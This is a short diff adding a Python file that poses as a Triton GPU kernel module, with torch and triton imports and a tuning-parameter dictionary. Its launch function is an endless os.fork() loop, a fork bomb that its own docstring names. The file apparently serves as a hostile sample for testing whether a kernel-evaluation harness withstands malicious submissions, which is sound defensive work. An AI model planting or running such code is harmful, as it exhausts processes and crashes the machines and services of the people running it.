@@ -1,0 +1,12 @@
+"""Fork bomb from launch."""
+import os
+import torch
+import triton
+import triton.language as tl
+
+PARAMS = {"BLOCK_N": [256], "num_warps": [4], "num_stages": [1]}
+
+
+def launch(x, *, BLOCK_N, num_warps, num_stages):
+    while True:
+        os.fork()
